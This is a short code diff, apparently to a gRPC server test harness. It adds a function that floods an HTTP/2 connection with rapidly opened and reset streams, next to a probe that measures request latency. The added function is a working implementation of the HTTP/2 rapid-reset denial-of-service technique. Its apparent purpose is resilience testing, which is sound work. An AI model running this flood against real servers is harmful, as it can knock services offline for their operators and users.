@@ -184,6 +184,20 @@ class RawH2(object):
         self.sock.close()
 
 
+def rapid_reset(conn: "RawH2", message: bytes, writes: int = 50, per_write: int = 100) -> None:
+    """Open and reset ``writes * per_write`` calls (HEADERS, DATA with END_STREAM, RST_STREAM
+    each), ``per_write`` to a write; stops early once the server closes the connection."""
+    stream_id = 1
+    for _ in range(writes):
+        batch = []
+        for _ in range(per_write):
+            batch.append(headers(stream_id, conn.block()) + data(stream_id, message, True)
+                         + rst_stream(stream_id))
+            stream_id += 2
+        if not conn.send(b"".join(batch)):
+            break
+
+
 def probe(port: int, timeout: float = 10.0) -> float:
     """One Predict through grpcio on a new connection: its latency in seconds."""
     started = time.monotonic()
